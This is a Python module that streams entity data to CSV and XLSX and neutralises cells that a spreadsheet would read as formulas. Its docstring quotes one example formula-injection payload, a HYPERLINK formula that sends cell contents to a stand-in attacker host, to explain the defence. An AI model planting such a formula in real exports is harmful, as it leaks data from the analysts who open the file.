"""Spreadsheet exports that a spreadsheet cannot turn against its reader.

A cell that begins with `=`, `+`, `-` or `@` is a formula to Excel, LibreOffice and
Google Sheets, and a leading tab or carriage return can hide one; an ingested value
like `=HYPERLINK("http://evil/?"&A1)` would run when an analyst opens the export.
Every such cell is neutralised by a leading single quote (OWASP's advice), in CSV and
XLSX alike. Entities are written long: one row per property value, so any mix of
schemata streams with one fixed header.
"""

from __future__ import annotations

import csv
import io
import re
from collections.abc import Iterable, Iterator, Mapping, Sequence
from typing import IO, Any

FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")
HEADER = ("id", "schema", "caption", "property", "value", "datasets", "markings")
XLSX_MAX_ROWS = 1_048_576  # per sheet, the header included
XLSX_MAX_CELL = 32_767  # characters Excel holds in one cell
# Characters XML 1.0 cannot hold (openpyxl refuses them).
_XML_ILLEGAL = re.compile(r"[\x00-\x08\x0b\x0c\x0e-\x1f]")

Row = Sequence[str]


def neutralise(value: str) -> str:
    """The value, prefixed with `'` if a spreadsheet would read it as a formula."""
    return "'" + value if value.startswith(FORMULA_STARTS) else value


def entity_rows(entity: Mapping[str, Any]) -> Iterator[tuple[str, ...]]:
    """One row per property value of a followthemoney entity dict (as `export` gives
    it), in HEADER's order; an entity without values still gets a row."""
    head = (str(entity.get("id", "")), str(entity.get("schema", "")))
    caption = str(entity.get("caption", ""))
    datasets = ";".join(entity.get("datasets", []))
    markings = ";".join(entity.get("markings", []))
    properties: Mapping[str, list[Any]] = entity.get("properties", {})
    values = [(p, str(v)) for p in sorted(properties) for v in properties[p]]
    for prop, value in values or [("", "")]:
        yield (*head, caption, prop, value, datasets, markings)


def export_rows(entities: Iterable[Mapping[str, Any]]) -> Iterator[tuple[str, ...]]:
    """The rows of every entity, in order (see `entity_rows`)."""
    for entity in entities:
        yield from entity_rows(entity)


def csv_chunks(rows: Iterable[Row], header: Row = HEADER, batch: int = 500) -> Iterator[str]:
    """CSV text (RFC 4180, CRLF) of the header and the rows, every cell neutralised,
    in chunks of `batch` rows for streaming."""
    buffer = io.StringIO()
    writer = csv.writer(buffer)
    writer.writerow([neutralise(c) for c in header])
    for count, row in enumerate(rows, start=1):
        writer.writerow([neutralise(c) for c in row])
        if count % batch == 0:
            yield buffer.getvalue()
            buffer.seek(0)
            buffer.truncate()
    yield buffer.getvalue()


def xlsx_cell(value: str) -> str:
    """A neutralised cell XLSX can hold: no XML-illegal characters, at most 32,767."""
    return neutralise(_XML_ILLEGAL.sub("", value))[:XLSX_MAX_CELL]


def write_xlsx(
    rows: Iterable[Row], out: IO[bytes], header: Row = HEADER, title: str = "export"
) -> int:
    """Write the rows as an XLSX workbook (write-only: constant memory) to `out`;
    rows beyond a sheet's limit continue on the next sheet. Returns the row count."""
    from openpyxl import Workbook

    book = Workbook(write_only=True)
    top = [xlsx_cell(c) for c in header]
    sheet = book.create_sheet(title)
    sheet.append(top)
    used, count, sheets = 1, 0, 1
    for row in rows:
        if used == XLSX_MAX_ROWS:
            sheets += 1
            sheet = book.create_sheet(f"{title} {sheets}")
            sheet.append(top)
            used = 1
        sheet.append([xlsx_cell(c) for c in row])
        used += 1
        count += 1
    book.save(out)
    return count
